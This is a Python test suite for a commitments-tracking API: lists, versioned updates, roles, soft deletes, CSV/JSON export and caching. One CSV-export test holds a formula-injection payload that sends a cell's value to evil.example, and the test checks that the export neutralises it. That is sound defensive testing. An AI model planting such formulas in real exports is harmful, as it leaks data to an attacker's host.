"""The commitments resource: react-admin's list contract, edits with versions, deletes."""

import csv
import io
import json

from suivi_testing import auth

SAMPLE = {
    "text": "Nous nous engageons à renouveler le mandat du Forum sur la gouvernance de l'Internet.",
    "kind": "engagement",
    "topics": ["igf_mandate"],
    "actors": ["states"],
    "deadline": "2026",
}


async def create(client, **overrides):
    response = await client.post("/api/commitments", json=SAMPLE | overrides, headers=auth("monitor"))
    assert response.status_code == 201, response.text
    return response.json()


async def test_create_and_read(client):
    created = await create(client)
    assert created["status"] == "not_assessed"
    assert created["version"] == 1
    assert created["title"].startswith("Nous nous engageons")
    fetched = await client.get(f"/api/commitments/{created['id']}", headers=auth("viewer"))
    assert fetched.json() == created


async def test_list_sorts_pages_and_filters(client):
    texts = [
        "Renforcer le financement durable du FGI.",
        "Assurer la cybersécurité des réseaux.",
        "Soutenir les IGF nationaux.",
    ]
    topics = [["funding"], ["cybersecurity_trust"], ["nri_coordination"]]
    ids = [(await create(client, text=t, topics=tp))["id"] for t, tp in zip(texts, topics, strict=True)]
    response = await client.get(
        "/api/commitments",
        params={"sort": json.dumps(["id", "DESC"]), "range": json.dumps([0, 1])},
        headers=auth("viewer"),
    )
    assert response.headers["content-range"] == "commitments 0-1/3"
    assert [c["id"] for c in response.json()] == [ids[2], ids[1]]

    async def ids_for(filter_):
        r = await client.get(
            "/api/commitments", params={"filter": json.dumps(filter_)}, headers=auth("viewer")
        )
        assert r.status_code == 200, r.text
        return sorted(c["id"] for c in r.json())

    assert await ids_for({"q": "cybersecurite"}) == [ids[1]]  # accents folded
    assert await ids_for({"q": "financ"}) == [ids[0]]  # prefix match
    assert await ids_for({"id": [ids[0], ids[2]]}) == [ids[0], ids[2]]
    assert await ids_for({"topics": "nri_coordination"}) == [ids[2]]
    assert await ids_for({"status": ["not_assessed"], "kind": "engagement"}) == ids
    assert await ids_for({"overdue": True}) == []


async def test_bad_list_parameters_are_400(client):
    for params in (
        {"sort": "nope"},
        {"range": "[5,1]"},
        {"filter": '{"colour": 1}'},
        {"sort": '["secret","ASC"]'},
    ):
        response = await client.get("/api/commitments", params=params, headers=auth("viewer"))
        assert response.status_code == 400, params
        assert response.json()["message"]


async def test_update_needs_current_version(client):
    created = await create(client)
    url = f"/api/commitments/{created['id']}"
    ok = await client.put(url, json=created | {"title": "Mandat du FGI"}, headers=auth("monitor"))
    assert ok.status_code == 200 and ok.json()["version"] == 2 and ok.json()["title"] == "Mandat du FGI"
    stale = await client.put(url, json=created | {"title": "Autre"}, headers=auth("monitor"))
    assert stale.status_code == 409
    assert "version" in stale.json()["message"]
    partial = await client.put(url, json={"deadline": "2030"}, headers=auth("monitor"))
    assert partial.status_code == 200 and partial.json()["deadline"] == "2030"


async def test_put_cannot_change_status(client):
    created = await create(client)
    response = await client.put(
        f"/api/commitments/{created['id']}", json=created | {"status": "achieved"}, headers=auth("monitor")
    )
    assert response.status_code == 422
    assert "status_changes" in response.json()["message"]


async def test_invalid_input_names_the_field(client):
    response = await client.post(
        "/api/commitments", json={"text": " ", "kind": "wish"}, headers=auth("monitor")
    )
    assert response.status_code == 422
    assert {"text", "kind"} <= set(response.json()["errors"])


async def test_roles(client):
    assert (await client.get("/api/commitments")).status_code == 401
    assert (await client.post("/api/commitments", json=SAMPLE, headers=auth("viewer"))).status_code == 403
    created = await create(client)
    assert (
        await client.delete(f"/api/commitments/{created['id']}", headers=auth("monitor"))
    ).status_code == 403


async def test_delete_with_history_is_soft(client):
    plain = await create(client)
    assert (await client.delete(f"/api/commitments/{plain['id']}", headers=auth("admin"))).status_code == 200
    assert (await client.get(f"/api/commitments/{plain['id']}", headers=auth("admin"))).status_code == 404

    kept = await create(client)
    change = {
        "commitment_id": kept["id"],
        "to_status": "in_progress",
        "rationale": "Début",
        "expected_version": 1,
    }
    assert (await client.post("/api/status_changes", json=change, headers=auth("monitor"))).status_code == 201
    assert (await client.delete(f"/api/commitments/{kept['id']}", headers=auth("admin"))).status_code == 200
    assert (await client.get(f"/api/commitments/{kept['id']}", headers=auth("viewer"))).status_code == 404
    archived = await client.get(f"/api/commitments/{kept['id']}", headers=auth("admin"))
    assert archived.json()["deleted"] is True
    history = await client.get(
        "/api/status_changes",
        params={"filter": json.dumps({"commitment_id": kept["id"]})},
        headers=auth("admin"),
    )
    assert len(history.json()) == 1  # kept: an administrator still sees it


async def test_a_deleted_commitment_reveals_nothing_to_non_admins(client):
    kept = await create(client)
    change = {"commitment_id": kept["id"], "to_status": "in_progress", "rationale": "Début",
              "expected_version": 1, "evidence": {"title": "Rapport annuel", "excerpt": "budget voté"}}  # fmt: skip
    made = await client.post("/api/status_changes", json=change, headers=auth("monitor"))
    assert made.status_code == 201, made.text
    change_id, evidence_id = made.json()["id"], made.json()["evidence"][0]["id"]
    assert (await client.delete(f"/api/commitments/{kept['id']}", headers=auth("admin"))).status_code == 200
    for role in ("viewer", "monitor"):
        headers = auth(role)
        assert (await client.get("/api/status_changes", headers=headers)).json() == []
        assert (await client.get("/api/evidence", headers=headers)).json() == []
        for path in (f"/api/status_changes/{change_id}", f"/api/evidence/{evidence_id}",
                     f"/api/evidence/{evidence_id}/archive"):  # fmt: skip
            assert (await client.get(path, headers=headers)).status_code == 404, (role, path)
        assert (await client.get("/api/stats", headers=headers)).json()["recent_changes"] == []
    admin = auth("admin")
    assert [c["id"] for c in (await client.get("/api/status_changes", headers=admin)).json()] == [change_id]
    assert [e["id"] for e in (await client.get("/api/evidence", headers=admin)).json()] == [evidence_id]


async def test_export_csv_and_json(client):
    await create(client)
    await create(
        client, text="Promouvoir le multilinguisme sur l'Internet.", topics=["multilingualism_diversity"]
    )
    csv_response = await client.get(
        "/api/commitments/export", params={"format": "csv"}, headers=auth("viewer")
    )
    lines = csv_response.text.strip().splitlines()
    assert lines[0].startswith("id,title,text") and len(lines) == 3
    filtered = await client.get(
        "/api/commitments/export",
        params={"format": "json", "filter": json.dumps({"topics": ["igf_mandate"]})},
        headers=auth("viewer"),
    )
    assert [c["topics"] for c in filtered.json()] == [["igf_mandate"]]


async def test_nul_characters_are_refused_in_text(client):
    created = await create(client)
    refused = [
        await client.post(
            "/api/commitments", json=SAMPLE | {"text": "Nous\x00 agirons."}, headers=auth("monitor")
        ),
        await client.post("/api/commitments", json=SAMPLE | {"title": "A\x00"}, headers=auth("monitor")),
        await client.put(
            f"/api/commitments/{created['id']}", json={"text": "Nous\x00 agirons."}, headers=auth("monitor")
        ),
        await client.post(
            "/api/status_changes",
            json={
                "commitment_id": created["id"],
                "to_status": "achieved",
                "rationale": "fait\x00",
                "expected_version": created["version"],
            },
            headers=auth("monitor"),
        ),  # fmt: skip
        await client.post(
            "/api/evidence",
            json={"commitment_id": created["id"], "title": "Rapport", "excerpt": "\x00"},
            headers=auth("monitor"),
        ),
    ]
    for response in refused:
        assert response.status_code == 422 and "NUL" in response.json()["message"], response.text
    listed = await client.get("/api/commitments", headers=auth("viewer"))
    assert len(listed.json()) == 1 and listed.json()[0]["version"] == created["version"]


async def test_csv_export_neutralises_formulas(client):
    """OWASP: a cell starting with =, +, -, @, tab or CR is exported as text, not as a formula."""
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1", "\r=1"]
    for formula in formulas:
        await create(client, title=formula, text=f"{formula} Nous nous engageons à agir.")
    exported = await client.get("/api/commitments/export", params={"format": "csv"}, headers=auth("viewer"))
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert sorted(row["title"] for row in rows) == sorted("'" + formula for formula in formulas)
    assert all(row["text"].startswith("'") for row in rows)
    as_json = await client.get("/api/commitments/export", params={"format": "json"}, headers=auth("viewer"))
    assert sorted(c["title"] for c in as_json.json()) == sorted(formulas)  # JSON keeps the data as it is


async def test_stats(client):
    await create(client)
    stats = (await client.get("/api/stats", headers=auth("viewer"))).json()
    assert stats["total"] == 1
    assert stats["by_topic"] == {"igf_mandate": 1}
    assert stats["by_status"] == {"not_assessed": 1}
    # the figures are cached until the next write
    second = await create(client, text="Nous financerons les initiatives nationales et régionales.")
    change = {"commitment_id": second["id"], "to_status": "in_progress", "rationale": "Budget voté.",
              "expected_version": second["version"]}  # fmt: skip
    assert (await client.post("/api/status_changes", json=change, headers=auth("monitor"))).status_code == 201
    stats = (await client.get("/api/stats", headers=auth("viewer"))).json()
    assert stats["total"] == 2 and stats["by_status"] == {"not_assessed": 1, "in_progress": 1}
    assert [c["to_status"] for c in stats["recent_changes"]] == ["in_progress"]


async def test_cached_pages_follow_writes_from_any_replica(client, settings, app_with):
    """A list page is served from cache while nothing changes, and never after a change, even
    one made by another replica of the service on the same database."""
    await create(client)
    viewer = auth("viewer")
    params = {"filter": json.dumps({"topics": ["igf_mandate"]}), "range": "[0,9]"}
    first = await client.get("/api/commitments", params=params, headers=viewer)
    assert first.headers["content-range"] == "commitments 0-0/1"
    again = await client.get(
        "/api/commitments", params=params, headers=viewer | {"If-None-Match": first.headers["etag"]}
    )
    assert again.status_code == 304 and again.headers["etag"] == first.headers["etag"]

    async with app_with(database_url=settings.database_url) as replica:
        created = await create(replica, text="Nous financerons durablement le FGI.")
        assert (await replica.get("/api/commitments", params=params, headers=viewer)).json()
        changed = {"commitment_id": created["id"], "to_status": "in_progress", "rationale": "Voté.",
                   "expected_version": created["version"]}  # fmt: skip
        assert (
            await replica.post("/api/status_changes", json=changed, headers=auth("monitor"))
        ).status_code == 201
    after = await client.get(
        "/api/commitments", params=params, headers=viewer | {"If-None-Match": first.headers["etag"]}
    )
    assert after.status_code == 200 and after.headers["content-range"] == "commitments 0-1/2"
    assert {c["status"] for c in after.json()} == {"not_assessed", "in_progress"}


async def test_far_pages_are_the_same_slices(client, monkeypatch):
    """Pages past DEEP_PAGE are read ids first (another statement): same rows, same order."""
    from suivi_commitments.commitments import repository

    for i in range(7):
        await create(
            client, text=f"Nous soutiendrons l'initiative régionale numéro {i}.", deadline=f"20{30 + i % 3}"
        )
    monkeypatch.setattr(repository, "DEEP_PAGE", 3)
    sort = json.dumps(["deadline", "DESC"])
    whole = await client.get(
        "/api/commitments", params={"sort": sort, "range": "[0,6]"}, headers=auth("viewer")
    )
    ids = [c["id"] for c in whole.json()]
    for start, end in ((3, 4), (5, 6), (4, 9)):
        page = await client.get(
            "/api/commitments", params={"sort": sort, "range": f"[{start},{end}]"}, headers=auth("viewer")
        )
        assert [c["id"] for c in page.json()] == ids[start : end + 1]
        assert page.headers["content-range"] == f"commitments {start}-{min(end, 6)}/7"
